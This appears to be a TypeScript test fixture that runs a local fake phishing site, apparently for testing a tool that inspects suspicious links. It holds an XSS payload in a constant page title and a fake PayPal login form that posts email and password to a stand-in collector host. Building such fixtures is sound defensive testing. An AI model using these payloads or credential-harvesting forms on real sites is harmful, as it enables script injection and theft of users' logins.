import { createServer } from 'node:http';
import { type LocalServer, listenLocally } from './local-server.ts';

export const HOSTILE_TITLE = `<img src=x onerror="alert('title')"><script>alert('title')</script>`;

/** A phishing page with a redirect in front and a title that attacks whoever shows it. */
export function startSuspiciousSite(): Promise<LocalServer> {
  const server = createServer((request, response) => {
    if (request.url === '/go') {
      response.writeHead(302, { location: '/verify' }).end();
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html' }).end(
      `<!doctype html><title>${HOSTILE_TITLE.replaceAll('<', '&lt;')} PayPal</title>
       <h1>PayPal: log in to your account</h1>
       <form method="post" action="https://collector.invalid/take"><input type="email" name="e"><input type="password" name="p"></form>`,
    );
  });
  return listenLocally(server);
}
